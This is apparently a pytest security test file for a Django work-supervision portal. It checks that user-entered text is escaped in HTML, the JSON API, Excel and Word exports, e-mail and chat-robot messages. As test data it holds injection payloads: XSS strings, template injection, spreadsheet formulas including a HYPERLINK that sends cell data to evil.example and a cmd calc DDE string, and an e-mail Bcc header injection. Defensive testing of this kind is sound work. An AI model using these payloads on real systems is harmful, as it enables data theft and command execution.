"""Every output sink escaped: a payload planted in each field users type or import, read back from
each sink — HTML pages, the JSON API, the Excel and Word bulletins, e-mail, the WeCom and DingTalk
robots — as text, never as markup, a formula or a mention.

(The portal writes no CSV: the people list is read from CSV, never written as one.)
"""

from __future__ import annotations

import datetime
import io
import json
import zoneinfo

import pytest
import time_machine
from django.core import mail
from django.urls import reverse

from departments.models import Department, Membership
from departments.services import department_create, membership_set
from notifications.channels import Message, dingtalk_payload, send_email, wecom_payload
from progress import services as progress_services
from supervision.services import instruction_create, instruction_reply
from tasks.models import Responsibility, WorkItem
from tests.api_client import API, client_for
from tests.factories import pdf_upload, submit_report

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'
MARKUP = (SCRIPT, IMG.lstrip('">'))  # what must never appear raw in HTML
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]
ROBOT = "[点我](http://evil.example) @all <@all> **粗** # 标题 `code`"
PAYLOADS = [SCRIPT, IMG, "{{ 7|add:7 }}{% now 'Y' %}", "javascript:alert(1)", *FORMULAS, ROBOT]
FIELDS = ["item title", "department name", "person name", "narrative", "review comment", "instruction",
          "reply", "file name"]


@pytest.fixture(autouse=True)
def mid_2020():
    with time_machine.travel(datetime.datetime(2020, 7, 1, 10, 0, tzinfo=zoneinfo.ZoneInfo("Asia/Shanghai")), tick=True):
        yield


@pytest.fixture
def planted(roles, plan_2020, settings, tmp_path):
    """Item 1's title, a co-organizing department's name, the reporter's name, the narrative, the review
    comment, a 批示 and its reply and an evidence file name each carry `SCRIPT` and `IMG`."""
    settings.MEDIA_ROOT = tmp_path
    tag = f"{SCRIPT}{IMG}"
    item = WorkItem.objects.get(section__plan=plan_2020, number=1)
    item.title = f"标题{tag}"
    item.save(update_fields=["title"])
    hostile = department_create(name=f"部{tag}"[:100])
    Responsibility.objects.create(item=item, department=hostile, role=Responsibility.Role.CO_ORGANIZER, order=9)
    roles.staff.first_name = f"张{IMG}"[:150]
    roles.staff.save(update_fields=["first_name"])
    membership_set(user=roles.staff, department=hostile, role=Membership.Role.MEMBER)
    office = Department.objects.get(name="办公室")
    report = submit_report(item=item, department=office, reporter=roles.staff, narrative=f"进展{tag}",
                           evidence=[pdf_upload(f"材料{IMG}.pdf")], narrative_visibility="plan",
                           evidence_visibility="plan")
    progress_services.report_return(report=report, reviewer=roles.head, comment=f"退回{tag}")
    instruction = instruction_create(item=item, author=roles.leader, text=f"批示{tag}")
    instruction_reply(instruction=instruction, user=roles.head, text=f"答复{tag}", department=office)
    office.name = f"办公室{SCRIPT}"  # the lead department: named in every bulletin
    office.save(update_fields=["name"])
    return {"item": item, "report": report, "department": hostile, "instruction": instruction}


def _assert_escaped(html: str, where: str, *, shown: bool = True) -> None:
    for raw in MARKUP:
        assert raw not in html, f"{where}: raw {raw!r}"
    if shown:
        assert "&lt;script&gt;alert(" in html, f"{where}: the payload is not shown escaped"


def test_html_pages_show_every_planted_field_escaped(client, roles, planted):
    pages = {
        "item page": planted["item"].get_absolute_url(),
        "plan page": planted["item"].section.plan.get_absolute_url(),
        "my work": reverse("supervision:my-work"),
        "supervision desk": reverse("supervision:desk"),
        "department page": reverse("dashboard:department-dashboard", args=[planted["department"].pk]),
        "people page": reverse("departments:people"),
        "department tree": reverse("departments:tree"),
    }
    client.force_login(roles.plan_admin)
    checked = 0
    for where, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, where
        _assert_escaped(response.content.decode(), where, shown=where != "my work")
        checked += 1
    # and the item page shows each field (so the test reads what it planted)
    html = client.get(planted["item"].get_absolute_url()).content.decode()
    for prefix in ("标题", "进展", "退回", "批示", "答复", "材料"):
        assert f"{prefix}&lt;script&gt;" in html or f"{prefix}&quot;&gt;&lt;img" in html, prefix
    print(f"payloads: {len(PAYLOADS)} kinds × {len(FIELDS)} fields; HTML sinks: {checked} pages")


def test_the_json_api_returns_the_text_as_json_strings(planted, roles):
    api = client_for(roles.plan_admin)
    for url in (f"{API}/reports/{planted['report'].pk}/", f"{API}/items/{planted['item'].pk}/",
                f"{API}/instructions/{planted['instruction'].pk}/"):
        response = api.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff"
        # the data, as a JSON string, for the client to show as text
        assert "<script>alert(" in json.dumps(response.json(), ensure_ascii=False), url


def test_bulletins_write_user_text_as_text(client, roles, planted):
    import docx
    import openpyxl

    progress_services.rollup_refresh(plan=planted["item"].section.plan)
    client.force_login(roles.leader)
    query = "?from=2020-06-01&to=2020-07-01"
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(reverse("dashboard:bulletin-excel") + query).content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and SCRIPT in cell.value]
    assert cells and all(cell.data_type == "s" for cell in cells)
    document = docx.Document(io.BytesIO(client.get(reverse("dashboard:bulletin-word") + query).content))
    text = "\n".join([p.text for p in document.paragraphs]
                     + [c.text for t in document.tables for r in t.rows for c in r.cells])
    assert SCRIPT in text  # a literal in the document's text, not markup in its XML


@pytest.mark.parametrize("payload", PAYLOADS)
def test_e_mail_is_plain_text_with_a_one_line_subject(payload, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    mail.outbox.clear()
    send_email(Message(title=f"事项\r\nBcc: victim@example.cn {payload}", body=f"正文 {payload}",
                       url="https://portal.example.cn/items/1/"), address="head@example.cn")
    sent = mail.outbox[0]
    assert "\n" not in sent.subject and "\r" not in sent.subject
    assert sent.bcc == [] and sent.to == ["head@example.cn"]
    assert sent.content_subtype == "plain" and not getattr(sent, "alternatives", None)
    assert payload in sent.body


@pytest.mark.parametrize("payload", PAYLOADS)
def test_robot_messages_show_user_text_as_text(payload):
    message = Message(title=f"事项 {payload}", body=f"正文 {payload}\n{ROBOT}", url="https://portal.example.cn/items/1/")
    for content in (wecom_payload(message)["markdown"]["content"], dingtalk_payload(message)["markdown"]["text"]):
        user_part = content.rsplit("\n\n", 1)[0]  # before the portal's own link
        for active in ("[", "]", "<", ">", "@", "`", "*"):
            assert active not in user_part.split("\n", 1)[1], (payload, active)
        assert user_part.startswith("### ") and "\n" not in user_part.split("\n\n", 1)[0]
    assert dingtalk_payload(message)["at"] == {"atMobiles": [], "isAtAll": False}
